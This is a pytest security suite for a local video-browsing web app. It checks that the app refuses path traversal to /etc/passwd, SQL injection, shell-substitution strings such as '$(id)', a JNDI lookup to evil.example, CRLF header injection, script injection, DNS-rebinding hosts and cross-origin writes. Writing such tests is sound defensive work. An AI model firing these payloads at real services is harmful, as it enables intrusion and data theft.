"Requests that try to get at files, at the index, or at the page from elsewhere: none gets through"
from types import SimpleNamespace
import pytest
from mvrep.explore.app import HEADERS, make_app
from mvrep.index.index import Index
from mvrep.index.examples import tiny_index
from starlette.testclient import TestClient

HOME = 'http://127.0.0.1'
SECRET = 'root:x:0:0'
SCRIPT = '<script>document.title="hacked"</script>'

@pytest.fixture(scope='module')
def app(tmp_path_factory):
    "The app over twelve videos, beside a file that must not be read"
    folder = tmp_path_factory.mktemp('probes')
    index = tiny_index(folder)
    (folder/'secret.mp4').write_text(SECRET)
    (index.folder/'secret.txt').write_text(SECRET)
    with TestClient(make_app(index.folder), base_url=HOME, raise_server_exceptions=False) as client:
        yield SimpleNamespace(client=client, folder=folder, index=index)

def check_refused(app, answer, statuses=(400, 403, 404, 405)):
    "Is a request refused with one sentence, which tells nothing about this computer?"
    assert answer.status_code in statuses, (answer.status_code, answer.text[:300])
    check_harmless(app, answer)
    if answer.request.method!='HEAD': assert 3<len(answer.json()['error'])<200

def check_harmless(app, answer):
    "Does an answer tell nothing about this computer, and forbid the browser to run anything of it?"
    assert SECRET not in answer.text and 'Traceback' not in answer.text
    if answer.headers['content-type'].startswith('application/json'): assert str(app.folder) not in answer.text
    assert not [o for o in answer.headers if o.startswith('x-injected')] and 'set-cookie' not in answer.headers
    assert 'access-control-allow-origin' not in answer.headers
    for name, value in HEADERS.items(): assert answer.headers[name]==value
    assert 'html' not in answer.headers['content-type'] or answer.request.url.path=='/'

PATHS = [
    '/../../etc/passwd', '/..%2f..%2f..%2fetc%2fpasswd', '/%2e%2e/%2e%2e/etc/passwd', '/%252e%252e/etc/passwd',
    '/static/app.html', '/static/../app.py', '/media/../secret.mp4', '/media/v0000', '/media/%2fetc%2fpasswd',
    '/app.js/../../settings.ini', '/app.js%00.html', '/app.js;/../x', '/.git/config', '/app.py', '/..\\..\\secret.txt',
    '/secret.txt', '/api', '/api/', '/api/upload/../video', '/~root', '/index/current', '/APP.JS']

@pytest.mark.parametrize('path', PATHS)
def test_paths(app, path): check_refused(app, app.client.get(path))

def ids_of(folder):
    "Ids that name files, break out of a query, or look like an id"
    return [
        '/etc/passwd', 'file:///etc/passwd', '../secret.mp4', f'{folder}/secret.mp4', '../../../etc/passwd', '',
        'v0000/../v0001', '\0', 'v0000\0', 'x'*5000, '%2e%2e', "v0000' OR '1'='1", "x'; DROP TABLE videos; --",
        '${jndi:ldap://evil.example/x}', '{{7*7}}', '$(id)', '`id`', 'v0000\r\nX-Injected: 1', SCRIPT, 'V0000',
        '\uff560000', 'v0000 ', ' v0000', 'v0000\u200b', b'\xed\xb3\xbf', 'nan', 'None', '*', '%']

@pytest.mark.parametrize('route', ['/media', '/api/video', '/api/similar'])
@pytest.mark.parametrize('number', range(len(ids_of(''))))
def test_ids(app, route, number):
    check_refused(app, app.client.get(route, params=dict(id=ids_of(app.folder)[number])), (404,))

@pytest.mark.parametrize('query', ['', 'id', 'id[]=v0000', 'ID=v0000', 'id=v0000&id=/etc/passwd', 'path=/etc/passwd',
                                   'upload=../secret.mp4', 'upload=', 'id=v0000&upload=x', '&'*500, 'id=%zz'])
def test_queries(app, query): check_refused(app, app.client.get(f'/api/similar?{query}'), (404,))

@pytest.mark.parametrize('name', ['weight', 'diversity'])
@pytest.mark.parametrize('value', [
    'nan', 'inf', '-inf', '-1', '-1e-9', '1.0001', '1e309', '', 'x', '0x1', '½', '9'*6000, '.5;',
    '.5\r\nX-Injected: 1', SCRIPT])
def test_numbers(app, name, value):
    check_refused(app, app.client.get('/api/similar', params={'id': 'v0000', name: value}), (400,))

WORDS = [
    SCRIPT, "' OR 1=1 --", "'; DROP TABLE videos; --", '(a+)+$'*30, '%', '_', '*', '\\', '"', '\0', '\u202e',
    '/etc/passwd', b'\xed\xa0\x80', 'x'*60_000, ' '*20_000, 'a\r\nX-Injected: 1', '{{7*7}}', '🎵'*300]

@pytest.mark.parametrize('number', range(len(WORDS)))
def test_searches(app, number):
    answer = app.client.get('/api/videos', params=dict(q=WORDS[number]))
    check_harmless(app, answer)
    assert answer.status_code==200 and 0<=answer.json()['n']<=12

HOSTS = [
    'evil.example', 'evil.example:8765', '127.0.0.1.evil.example', 'localhost.evil.example', 'evil.example#127.0.0.1',
    '127.0.0.1@evil.example', '0.0.0.0', '', '[::1]:8765', '127.1', '2130706433', '127.0.0.2', '127.0.0.1:80:evil',
    'LOCALHOST.evil', '127.0.0.1,evil.example', '127.0.0.1 evil.example', 'http://127.0.0.1']

@pytest.mark.parametrize('host', HOSTS)
def test_hosts(app, host):
    "A page whose name is resolved to this computer cannot read anything"
    for path in ('/', '/api/videos?q=', '/media?id=v0000'):
        check_refused(app, app.client.get(path, headers=dict(Host=host)), (403,))

ORIGINS = [
    'http://evil.example', 'null', 'https://127.0.0.1', 'http://127.0.0.1:1', 'http://localhost', 'file://',
    'http://127.0.0.1.evil.example', 'http://127.0.0.1@evil.example', 'HTTP://127.0.0.1', 'http://127.0.0.1/', '',
    'chrome-extension://x', 'http://127.0.0.1 http://evil.example']

@pytest.mark.parametrize('origin', ORIGINS)
@pytest.mark.parametrize('method', ['POST', 'PUT', 'DELETE', 'OPTIONS', 'PATCH'])
def test_other_pages_change_nothing(app, origin, method):
    answer = app.client.request(method, '/api/upload', headers=dict(Origin=origin), content=b'x')
    check_refused(app, answer, (403,))

@pytest.mark.parametrize('site', ['cross-site', 'same-site'])
@pytest.mark.parametrize('path', ['/media?id=v0000', '/api/videos?q=', '/api/video?id=v0000', '/api/similar?id=v0000',
                                  '/app.js', '/app.css', '/api/upload'])
def test_other_pages_read_nothing(app, site, path):
    check_refused(app, app.client.get(path, headers={'Sec-Fetch-Site': site}), (403,))

@pytest.mark.parametrize('kind', ['text/plain', 'multipart/form-data; boundary=x', 'application/x-www-form-urlencoded'])
def test_forms_of_other_pages(app, kind):
    "A form can be sent without asking, but carries the name of its page"
    headers = {'Content-Type': kind, 'Origin': 'http://evil.example', 'Sec-Fetch-Site': 'cross-site'}
    check_refused(app, app.client.post('/api/upload', headers=headers, content=b'x'), (403,))

@pytest.mark.parametrize('headers', [
    {'X-Forwarded-Host': 'evil.example'}, {'X-Original-URL': '/etc/passwd'}, {'X-Rewrite-URL': '/secret.txt'},
    {'X-HTTP-Method-Override': 'DELETE'}, {'Forwarded': 'host=evil.example;proto=https'},
    {'X-Forwarded-Proto': 'https'}, {'Cookie': 'a=b; '*500}, {'Accept': '../../etc/passwd'},
    {'Accept-Encoding': 'x'*4000}, {'Referer': 'http://evil.example'}])
def test_headers_that_change_nothing(app, headers):
    answer = app.client.get('/api/videos?q=', headers=headers)
    check_harmless(app, answer)
    assert answer.json()['n']==12

@pytest.mark.parametrize('part', [
    'bytes=0-0,5-5,9-9', 'bytes=-1', 'bytes=9-2', 'bytes=x', 'items=0-1', 'bytes=', 'bytes=0-'+'9'*99,
    'bytes='+','.join(['0-0']*2000), 'bytes=--1', 'bytes=0-1\t,'])
def test_ranges(app, part):
    "Parts of the file, or a refusal; never more than the file"
    answer = app.client.get('/media?id=v0000', headers=dict(Range=part))
    check_harmless(app, answer)
    size = len(app.client.get('/media?id=v0000').content)
    assert answer.status_code in (200, 206, 400, 416) and len(answer.content)<=size+2000

@pytest.mark.parametrize('method', ['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND'])
@pytest.mark.parametrize('path', ['/', '/app.js', '/api/videos', '/api/video', '/media'])
def test_methods(app, method, path): check_refused(app, app.client.request(method, path), (405,))

def test_nothing_changed(app):
    "After all of it"
    assert list(Index(app.index.folder).build.video_ids)==[f'v{i:04}' for i in range(12)]
    assert app.client.get('/api/videos?q=').json()['n']==12
